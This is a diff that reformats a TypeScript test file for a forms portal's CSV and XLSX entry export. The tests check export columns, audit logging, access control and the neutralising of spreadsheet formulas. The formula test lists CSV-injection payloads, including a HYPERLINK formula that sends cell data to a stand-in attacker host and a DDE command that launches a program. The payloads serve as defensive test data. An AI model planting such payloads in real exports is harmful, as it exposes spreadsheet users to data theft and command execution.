@@ -7,7 +7,16 @@ import { Readable } from 'node:stream';
 import { sql } from 'kysely';
 import { expect, onTestFinished, test } from 'vitest';
 import type { FormField } from '@portico/contracts/formFields';
-import { formExportPath, formFilePath, formFileUrl, listFormEntries, listForms, submitEntry, type FormFile, type FormValues } from '@portico/contracts/forms';
+import {
+  formExportPath,
+  formFilePath,
+  formFileUrl,
+  listFormEntries,
+  listForms,
+  submitEntry,
+  type FormFile,
+  type FormValues,
+} from '@portico/contracts/forms';
 import { readFile } from '../../media/reading/readFile.ts';
 import { addFile } from '../../media/files.ts';
 import { openZip } from '../../media/zipArchive.ts';
@@ -15,18 +24,26 @@ import { aForm } from '../../testing/aForm.ts';
 import { sharedPortal } from '../../testing/testPortal.ts';
 import { harmless } from './entriesCsv.ts';
 
-const shared = sharedPortal({ env: { PUBLIC_URL: 'https://portal.example', OIDC_ISSUER: 'https://id.example' }, issuer: { issuer: 'https://id.example' } });
+const shared = sharedPortal({
+  env: { PUBLIC_URL: 'https://portal.example', OIDC_ISSUER: 'https://id.example' },
+  issuer: { issuer: 'https://id.example' },
+});
 async function publishForm(form = aForm()) {
   return { formId: form.formId, form, itemId: await shared().make.resource({ components: [form] }) };
 }
 let count = 0;
 const send = (who: string, formId: string, values: FormValues) =>
-  shared().as(who).call(submitEntry, { params: { formId }, body: { values } }, { 'idempotency-key': `key-${(count += 1)}` });
-const exported = async (formId: string, format: 'csv' | 'xlsx', who = 'edda') => shared().portal.inject({ url: formExportPath(formId, format), headers: await shared().as(who).headers() });
+  shared()
+    .as(who)
+    .call(submitEntry, { params: { formId }, body: { values } }, { 'idempotency-key': `key-${(count += 1)}` });
+const exported = async (formId: string, format: 'csv' | 'xlsx', who = 'edda') =>
+  shared().portal.inject({ url: formExportPath(formId, format), headers: await shared().as(who).headers() });
 /** Cells of a CSV as a spreadsheet reads them. */
 function cellsOf(csv: string): string[][] {
   const rows: string[][] = [[]];
-  for (const [, quoted, plain, end] of csv.replace(/^\ufeff/, '').matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/g)) {
+  for (const [, quoted, plain, end] of csv
+    .replace(/^\ufeff/, '')
+    .matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/g)) {
     if (quoted === undefined && plain === '' && end === '') continue;
     rows.at(-1)!.push(quoted?.replaceAll('""', '"') ?? plain!);
     if (end === '\r\n') rows.push([]);
@@ -36,35 +53,100 @@ function cellsOf(csv: string): string[][] {
 
 /** The cells of a workbook, as its XML. */
 async function sheetOf(workbook: Buffer): Promise<string> {
-  const archive = await openZip({ size: workbook.length, read: async (start, length) => workbook.subarray(start, start + length) });
+  const archive = await openZip({
+    size: workbook.length,
+    read: async (start, length) => workbook.subarray(start, start + length),
+  });
   return (await archive.unpack('xl/worksheets/sheet1.xml', 10_000_000)).toString();
 }
 
 const all: Parameters<typeof aForm>[0] = {
-  title: 'Expense claim: 2026/Q1', fields: [
-    { type: 'TitleAndDescription', title: 'About' }, { type: 'TextField', alias: 'what', label: 'What' }, { type: 'TextField', format: 'Number', alias: 'amount', label: 'Amount' },
-    { type: 'MultiChoice', alias: 'kinds', label: 'Kinds', options: [{ value: 'a', label: 'Air fare' }, { value: 'b', label: 'Bed, breakfast' }] }, { type: 'Checkbox', alias: 'sure', label: 'Sure' },
-    { type: 'FileUpload', alias: 'receipts', label: 'Receipts' }, { type: 'Divider' },
+  title: 'Expense claim: 2026/Q1',
+  fields: [
+    { type: 'TitleAndDescription', title: 'About' },
+    { type: 'TextField', alias: 'what', label: 'What' },
+    { type: 'TextField', format: 'Number', alias: 'amount', label: 'Amount' },
+    {
+      type: 'MultiChoice',
+      alias: 'kinds',
+      label: 'Kinds',
+      options: [
+        { value: 'a', label: 'Air fare' },
+        { value: 'b', label: 'Bed, breakfast' },
+      ],
+    },
+    { type: 'Checkbox', alias: 'sure', label: 'Sure' },
+    { type: 'FileUpload', alias: 'receipts', label: 'Receipts' },
+    { type: 'Divider' },
   ],
 };
 
 test('editors export all entries as a table with a column for every field of any version; others find no such page', async () => {
   const { portal, as, make, clock } = shared();
   const { formId, form, itemId } = await publishForm(aForm(all));
-  const uploaded = await portal.inject({ method: 'POST', url: formFilePath(formId), payload: 'x', headers: { ...(await as('ana').headers()), 'content-type': 'text/plain', 'x-file-name': 'a.txt', 'x-field': 'receipts' } });
+  const uploaded = await portal.inject({
+    method: 'POST',
+    url: formFilePath(formId),
+    payload: 'x',
+    headers: {
+      ...(await as('ana').headers()),
+      'content-type': 'text/plain',
+      'x-file-name': 'a.txt',
+      'x-field': 'receipts',
+    },
+  });
   const { id } = uploaded.json<FormFile>();
-  await send('ana', formId, { what: 'Zürich – "dinner"\nfor two', amount: '1,250.50', kinds: ['b', 'a'], sure: true, receipts: [id] });
-  const renamed = { ...form, fields: [...form.fields.filter((field) => !('alias' in field && field.alias === 'kinds')), { id: 'n', type: 'TextArea', alias: 'note', label: 'What' } satisfies FormField] };
+  await send('ana', formId, {
+    what: 'Zürich – "dinner"\nfor two',
+    amount: '1,250.50',
+    kinds: ['b', 'a'],
+    sure: true,
+    receipts: [id],
+  });
+  const renamed = {
+    ...form,
+    fields: [
+      ...form.fields.filter((field) => !('alias' in field && field.alias === 'kinds')),
+      { id: 'n', type: 'TextArea', alias: 'note', label: 'What' } satisfies FormField,
+    ],
+  };
   await make.republish(itemId, { components: [renamed] });
   clock.now = new Date(clock.now.getTime() + 1000);
   await send('nils', formId, { what: 'Cab', amount: '-12', note: 'late' });
   const answer = await exported(formId, 'csv');
-  expect(answer.headers).toMatchObject({ 'content-type': 'text/csv; charset=utf-8', 'cache-control': 'no-store', 'content-disposition': expect.stringMatching(/^attachment; filename="Expense claim_ 2026_Q1 \d{4}-\d\d-\d\d\.csv"/) as string });
+  expect(answer.headers).toMatchObject({
+    'content-type': 'text/csv; charset=utf-8',
+    'cache-control': 'no-store',
+    'content-disposition': expect.stringMatching(
+      /^attachment; filename="Expense claim_ 2026_Q1 \d{4}-\d\d-\d\d\.csv"/,
+    ) as string,
+  });
   expect(answer.body.startsWith('\ufeff')).toBe(true);
   const [header, second, first] = cellsOf(answer.body);
-  expect(header).toEqual(['Received (UTC)', 'Name', 'E-mail', 'Form version', 'What (what)', 'Amount', 'Sure', 'Receipts', 'What (note)', 'Kinds']);
+  expect(header).toEqual([
+    'Received (UTC)',
+    'Name',
+    'E-mail',
+    'Form version',
+    'What (what)',
+    'Amount',
+    'Sure',
+    'Receipts',
+    'What (note)',
+    'Kinds',
+  ]);
   expect(second!.slice(1)).toEqual(['Nils Aldous', '', '2', 'Cab', '-12', 'No', '', 'late', '']);
-  expect(first!.slice(1)).toEqual(['Ana Brandt', '', '1', 'Zürich – "dinner"\nfor two', '1250.5', 'Yes', `a.txt (https://portal.example${formFileUrl(id)})`, '', 'Air fare; Bed, breakfast']);
+  expect(first!.slice(1)).toEqual([
+    'Ana Brandt',
+    '',
+    '1',
+    'Zürich – "dinner"\nfor two',
+    '1250.5',
+    'Yes',
+    `a.txt (https://portal.example${formFileUrl(id)})`,
+    '',
+    'Air fare; Bed, breakfast',
+  ]);
   for (const format of ['csv', 'xlsx'] as const) expect((await exported(formId, format, 'ana')).statusCode).toBe(404);
   expect((await exported(randomUUID(), 'csv')).statusCode).toBe(404);
   await make.withdraw(itemId);
@@ -72,19 +154,48 @@ test('editors export all entries as a table with a column for every field of any
 });
 
 test('texts that a spreadsheet would take for formulas are harmless in it [FORM-015, X6]', async () => {
-  const hostile = ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', ' =1', '\u00a0=1', '＝1', '＋1', '－1', '＠1', '=HYPERLINK("https://evil.test?"&A1)', "=cmd|'/c calc'!A1"];
+  const hostile = [
+    '=1+1',
+    '+1',
+    '-1',
+    '@SUM(A1)',
+    '\t=1',
+    '\r=1',
+    '\n=1',
+    ' =1',
+    '\u00a0=1',
+    '＝1',
+    '＋1',
+    '－1',
+    '＠1',
+    '=HYPERLINK("https://evil.test?"&A1)',
+    "=cmd|'/c calc'!A1",
+  ];
   for (const text of hostile) expect(harmless(text), JSON.stringify(text)).toBe(`'${text}`);
-  for (const text of ['1=1', 'a+b', '', 'Ana', '(555) 010-0123', "'=1", 'a; b', 'a\nb', 'Mon - Fri; 9-5']) expect(harmless(text)).toBe(text);
-  for (const [text, safe] of [['a;=1+1', "a;'=1+1"], ['a\n=1', "a\n'=1"], ['a\t @x', "a\t '@x"], ['a;"=1"', `a;"'=1"`], ['=1;=2', "'=1;'=2"], ['a; ＝1', "a; '＝1"]] as const) expect(harmless(text), text).toBe(safe);
+  for (const text of ['1=1', 'a+b', '', 'Ana', '(555) 010-0123', "'=1", 'a; b', 'a\nb', 'Mon - Fri; 9-5'])
+    expect(harmless(text)).toBe(text);
+  for (const [text, safe] of [
+    ['a;=1+1', "a;'=1+1"],
+    ['a\n=1', "a\n'=1"],
+    ['a\t @x', "a\t '@x"],
+    ['a;"=1"', `a;"'=1"`],
+    ['=1;=2', "'=1;'=2"],
+    ['a; ＝1', "a; '＝1"],
+  ] as const)
+    expect(harmless(text), text).toBe(safe);
   expect(harmless(-12)).toBe(-12);
-  const { formId } = await publishForm(aForm({ title: '=1+1', fields: [{ type: 'TextArea', alias: 'text', label: '=label()' }] }));
+  const { formId } = await publishForm(
+    aForm({ title: '=1+1', fields: [{ type: 'TextArea', alias: 'text', label: '=label()' }] }),
+  );
   for (const text of hostile) await send('ana', formId, { text: `${text} x` });
   const cells = cellsOf((await exported(formId, 'csv')).body);
   for (const row of cells) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
   // In a workbook texts are typed as such, whatever they begin with: there is no formula, and none of them is changed.
   const sheet = await sheetOf((await exported(formId, 'xlsx')).rawPayload);
   expect(sheet).not.toMatch(/<f[ >/]/);
-  const texts = [...sheet.matchAll(/<c [^>]*t="inlineStr"><is><t xml:space="preserve">([^<]*)<\/t><\/is><\/c>/g)].map(([, text]) => text);
+  const texts = [...sheet.matchAll(/<c [^>]*t="inlineStr"><is><t xml:space="preserve">([^<]*)<\/t><\/is><\/c>/g)].map(
+    ([, text]) => text,
+  );
   expect(texts).toContain('=1+1 x');
   expect(texts).toContain('=HYPERLINK("https://evil.test?"&amp;A1) x');
   expect(sheet.replaceAll(/<c [^>]*t="inlineStr">.*?<\/c>/gs, '')).not.toContain('1+1');
@@ -96,7 +207,10 @@ test('the workbook is one that our own reader and others open, with numbers as n
   await send('ana', formId, { what: '=1+1 <b>&amp;</b> _x000A_ \u0001 😀 "x"', amount: '1250.50', sure: true });
   const answer = await exported(formId, 'xlsx');
   expect(answer.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
-  const { fileId } = await addFile({ db, store }, { stream: Readable.from([answer.rawPayload]), fileName: 'export.xlsx' });
+  const { fileId } = await addFile(
+    { db, store },
+    { stream: Readable.from([answer.rawPayload]), fileName: 'export.xlsx' },
+  );
   await readFile({ fileId } as never, { ...shared().parts, db, store } as never);
   const { rows } = await sql<{ text: string }>`select text from file_texts where file_id = ${fileId}`.execute(db);
   expect(rows[0]!.text).toContain('=1+1 <b>&amp;</b> _x');
@@ -105,8 +219,16 @@ test('the workbook is one that our own reader and others open, with numbers as n
   const folder = await mkdtemp(join(tmpdir(), 'portico-xlsx-'));
   onTestFinished(() => rm(folder, { recursive: true }));
   await writeFile(join(folder, 'a.xlsx'), answer.rawPayload);
-  const hasUnzip = (() => { try { execFileSync('unzip', ['-v'], { stdio: 'ignore' }); return true; } catch { return false; } })();
-  if (hasUnzip) expect(execFileSync('unzip', ['-t', join(folder, 'a.xlsx')]).toString()).toContain('No errors detected');
+  const hasUnzip = (() => {
+    try {
+      execFileSync('unzip', ['-v'], { stdio: 'ignore' });
+      return true;
+    } catch {
+      return false;
+    }
+  })();
+  if (hasUnzip)
+    expect(execFileSync('unzip', ['-t', join(folder, 'a.xlsx')]).toString()).toContain('No errors detected');
 });
 
 test('ten thousand entries come as a stream, within seconds, in both formats', async () => {
@@ -128,17 +250,40 @@ test('each look of an editor at entries is written down before it is answered; n
   const { db } = shared();
   const { formId } = await publishForm();
   await send('ana', formId, { name: 'very-private-words' });
-  expect(await shared().as('edda').call(listFormEntries, { params: { formId }, query: {} })).toMatchObject({ total: 1, title: 'Request', forms: { 1: { formId } }, items: [{ formVersion: 1, person: { name: 'Ana Brandt', email: null }, values: { name: 'very-private-words' } }] });
+  expect(await shared().as('edda').call(listFormEntries, { params: { formId }, query: {} })).toMatchObject({
+    total: 1,
+    title: 'Request',
+    forms: { 1: { formId } },
+    items: [{ formVersion: 1, person: { name: 'Ana Brandt', email: null }, values: { name: 'very-private-words' } }],
+  });
   await exported(formId, 'csv');
   await exported(formId, 'xlsx');
-  const trail = await db.selectFrom('audit_log').select(['action', 'details']).where('object_id', '=', formId).where('action', '<>', 'form.submitted').orderBy('id').execute();
+  const trail = await db
+    .selectFrom('audit_log')
+    .select(['action', 'details'])
+    .where('object_id', '=', formId)
+    .where('action', '<>', 'form.submitted')
+    .orderBy('id')
+    .execute();
   expect(trail).toEqual([
-    { action: 'form.entries-read', details: { page: 1 } }, { action: 'form.entries-exported', details: { format: 'csv' } }, { action: 'form.entries-exported', details: { format: 'xlsx' } },
+    { action: 'form.entries-read', details: { page: 1 } },
+    { action: 'form.entries-exported', details: { format: 'csv' } },
+    { action: 'form.entries-exported', details: { format: 'xlsx' } },
   ]);
   expect(JSON.stringify([trail, shared().logged])).not.toContain('very-private-words');
-  expect(await shared().as('ana').fail(listFormEntries, { params: { formId }, query: {} })).toMatchObject({ status: 404 });
-  expect(await shared().as('edda').call(listFormEntries, { params: { formId }, query: { page: '2' } })).toMatchObject({ total: 1, items: [], forms: {} });
-  expect(await shared().as('edda').fail(listFormEntries, { params: { formId: randomUUID() }, query: {} })).toMatchObject({ status: 404 });
+  expect(await shared().as('ana').fail(listFormEntries, { params: { formId }, query: {} })).toMatchObject({
+    status: 404,
+  });
+  expect(
+    await shared()
+      .as('edda')
+      .call(listFormEntries, { params: { formId }, query: { page: '2' } }),
+  ).toMatchObject({ total: 1, items: [], forms: {} });
+  expect(
+    await shared()
+      .as('edda')
+      .fail(listFormEntries, { params: { formId: randomUUID() }, query: {} }),
+  ).toMatchObject({ status: 404 });
 });
 
 test('the list of forms has all that were ever published, with the number of their entries and where they are', async () => {
@@ -147,8 +292,15 @@ test('the list of forms has all that were ever published, with the number of the
   shared().clock.now = new Date(Math.ceil(shared().clock.now.getTime() / 1000) * 1000);
   await send('ana', formId, { name: 'A' });
   const { receivedAt } = await send('nils', formId, { name: 'N' });
-  const overview = async () => (await shared().as('edda').call(listForms, {})).items.find((item) => item.formId === formId);
-  expect(await overview()).toEqual({ formId, title: 'Listed', path: `/resources/${itemId}`, entries: 2, lastReceivedAt: receivedAt });
+  const overview = async () =>
+    (await shared().as('edda').call(listForms, {})).items.find((item) => item.formId === formId);
+  expect(await overview()).toEqual({
+    formId,
+    title: 'Listed',
+    path: `/resources/${itemId}`,
+    entries: 2,
+    lastReceivedAt: receivedAt,
+  });
   await shared().make.withdraw(itemId);
   expect(await overview()).toMatchObject({ path: null, entries: 2 });
   expect(await shared().as('ana').fail(listForms, {})).toMatchObject({ status: 404 });
